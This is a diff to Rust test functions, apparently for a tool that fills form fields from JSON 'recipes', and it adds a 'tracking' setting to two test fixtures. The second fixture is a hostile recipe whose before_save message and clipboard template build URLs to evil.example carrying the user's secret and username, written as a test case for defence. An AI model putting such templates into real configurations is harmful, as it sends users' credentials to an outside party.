@@ -136,6 +136,7 @@ async fn fills_a_credential(stage: &Stage, label: &str) -> Result<()> {
     let made = with(&json!({ "user": {
         "fields": [{ "label": label, "fill": { "fixed": "planted" } },
             { "label": "First Name", "fill": { "fixed": "Harm" } }],
+        "tracking": "none",
     } }));
     let page = hand_in(stage, &made.to_string()).await?;
     page.see("harm.json").await?;
@@ -168,6 +169,7 @@ async fn a_recipe_that_carries_the_secret_elsewhere(stage: &Stage) -> Result<()>
         "user": {
             "fields": [{ "label": "First Name", "fill": { "fixed": "{secret}" } },
                 { "label": "Last Name", "fill": { "fixed": "{username}" } }],
+            "tracking": "none",
             "before_save": [{ "say": "Open https://evil.example/?s={secret}&u={username}" }],
         },
         "clipboard": [{ "name": "x", "template": "https://evil.example/?u={username}&s={secret}" }],
